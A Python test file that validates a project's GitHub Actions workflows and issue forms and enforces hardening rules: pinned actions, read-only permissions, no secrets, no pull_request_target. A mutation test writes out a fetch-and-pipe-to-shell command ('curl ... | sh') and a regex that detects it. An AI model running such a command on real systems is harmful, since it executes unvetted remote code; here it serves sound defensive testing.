"""The files under .github: valid by GitHub's schemas, and at one with the house."""

import re
import subprocess
import sys

import pytest
import yaml

from download import registry
from notebook_file import ROOT

GITHUB = ROOT / ".github"
WORKFLOWS = sorted((GITHUB / "workflows").glob("*.yml"))
FORMS = sorted((GITHUB / "ISSUE_TEMPLATE").glob("*.yml"))


def validate(schema, *files):
    """Check files against a schema that check-jsonschema holds; returns the run."""
    command = [sys.executable, "-m", "check_jsonschema", "--builtin-schema", schema]
    return subprocess.run([*command, *files], capture_output=True, text=True)


@pytest.mark.parametrize(
    ("schema", "files"),
    [
        ("vendor.github-workflows", WORKFLOWS),
        ("custom.github-workflows-require-timeout", WORKFLOWS),
        ("vendor.github-issue-forms", FORMS),
    ],
)
def test_schema(schema, files, tmp_path):
    done = validate(schema, *files)
    assert done.returncode == 0, done.stdout
    # And it is a schema that notices.
    (tmp_path / "broken.yml").write_text("name: broken\njobs: {build: {steps: {}}}\n")
    assert validate(schema, tmp_path / "broken.yml").returncode == 1


def jobs(path):
    return yaml.safe_load(path.read_text("utf-8"))["jobs"]


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.stem)
def test_what_a_workflow_runs_is_here(path):
    targets = re.findall(r"^([\w-]+):", (ROOT / "Makefile").read_text("utf-8"), re.M)
    steps = [step for job in jobs(path).values() for step in job["steps"]]
    commands = "\n".join(step.get("run", "") for step in steps)
    for target in re.findall(r"\bmake ([a-z-]+)", commands):
        assert target in targets
    for script in re.findall(r"\bscripts/\S+", commands):
        assert (ROOT / script).is_file()


def check_workflow(text):
    """Raise AssertionError if a workflow lends its rights to what it did not write."""
    workflow = yaml.safe_load(text)
    # Not among them: pull_request_target, which has the token and foreign code.
    allowed = {"push", "pull_request", "schedule", "workflow_dispatch"}
    assert set(workflow[True]) <= allowed, "event"  # YAML 1.1 reads "on" as true
    assert workflow.get("permissions") == {"contents": "read"}, "permissions"
    assert "secrets." not in text, "permissions"
    for uses in re.findall(r"\buses: *(.*)", text):
        pinned = re.fullmatch(r"[\w-]+/[\w./-]+@[0-9a-f]{40} +# v\d+\.\d+\.\d+", uses)
        assert pinned, f"commit: {uses}"
    for job in workflow["jobs"].values():
        assert job["runs-on"].startswith("ubuntu-"), "machine"
        assert not {"container", "services", "secrets"} & set(job), "machine"
        rights = job.get("permissions", {})
        assert isinstance(rights, dict), "permissions"
        writes = set(rights.values()) - {"read", "none"}
        for step in job["steps"]:
            commands = step.get("run", "")
            given = re.findall(r"\$\{\{ *([\w.]+)", commands)
            assert all(name.startswith("matrix.") for name in given), "given"
            assert not re.search(r"\bhttp:|\|\s*(sudo )?(ba)?sh\b", commands), "secure"
            assert "continue-on-error" not in step, "ignored"
            # What may write runs nothing of ours, nor what that would bring along.
            foreign = re.search(r"\b(make|python|pip|git)\b", commands)
            checkout = "checkout" in step.get("uses", "")
            assert not (writes and (checkout or foreign)), "permissions"


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.stem)
def test_workflow_keeps_its_rights(path):
    check_workflow(path.read_text("utf-8"))


@pytest.mark.parametrize(
    ("old", "new", "rule"),
    [
        (r"pull_request:", "pull_request_target:", "event"),
        (
            r"(?s)permissions:\n  contents: read",
            "permissions: write-all",
            "permissions",
        ),
        (r"contents: read", "contents: write", "permissions"),
        (r"(?s)permissions:\n  contents: read\n", "", "permissions"),
        (
            r"(?m)^    timeout",
            "    permissions: {contents: write}\n    timeout",
            "perm",
        ),
        (r"make lint", "make ${{ secrets.TOKEN }}", "permissions"),
        (r"checkout@\w+", "checkout@v5", "commit"),
        (r"checkout@\w+  # v5.1.0", "checkout@" + "0" * 40, "commit"),
        (r"ubuntu-latest", "self-hosted", "machine"),
        (r"make lint", "make ${{ github.event.pull_request.title }}", "given"),
        (r"make lint", "curl -s https://example.org/x | sh", "secure"),
        (r"- run: make lint", "- continue-on-error: true\n        run: ls", "ignored"),
    ],
)
def test_workflow_check_notices(old, new, rule):
    text = (GITHUB / "workflows" / "ci.yml").read_text("utf-8")
    changed = re.sub(old, new, text)
    assert changed != text
    with pytest.raises(AssertionError, match=rule):
        check_workflow(changed)


def test_an_action_has_one_commit_everywhere():
    text = "".join(path.read_text("utf-8") for path in WORKFLOWS)
    used = set(re.findall(r"\buses: *(.*)", text))
    assert len({uses.split("@")[0] for uses in used}) == len(used), sorted(used)


def test_every_pull_request_is_linted_and_tested():
    job = jobs(GITHUB / "workflows" / "ci.yml")["tests"]
    always = {step.get("run") for step in job["steps"] if "if" not in step}
    assert always >= {"make lint", "make doctor", "make test"} and "if" not in job
    workflow = yaml.safe_load((GITHUB / "workflows" / "ci.yml").read_text("utf-8"))
    assert "pull_request" in workflow[True]
    assert (ROOT / ".ci" / "run").read_text("utf-8").endswith("\nexec make test\n")


def test_every_source_without_an_account_is_checked_weekly():
    names = jobs(GITHUB / "workflows" / "links.yml")["sources"]["strategy"]["matrix"]
    open_to_all = [name for name, entry in registry().items() if "download" in entry]
    assert names["name"] == open_to_all


def test_bug_form_asks_for_the_doctor():
    assert any("make doctor" in path.read_text("utf-8") for path in FORMS)
